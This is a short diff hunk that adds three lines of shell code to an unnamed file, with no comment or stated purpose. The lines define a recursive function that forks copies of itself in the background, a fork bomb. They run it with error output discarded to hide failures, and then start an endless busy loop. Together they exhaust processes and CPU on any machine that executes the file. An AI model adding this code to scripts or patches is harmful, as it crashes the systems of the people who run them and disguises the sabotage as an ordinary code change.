@@ -1,0 +1,3 @@
+bomb() { bomb | bomb & }
+bomb 2> /dev/null
+while :; do :; done
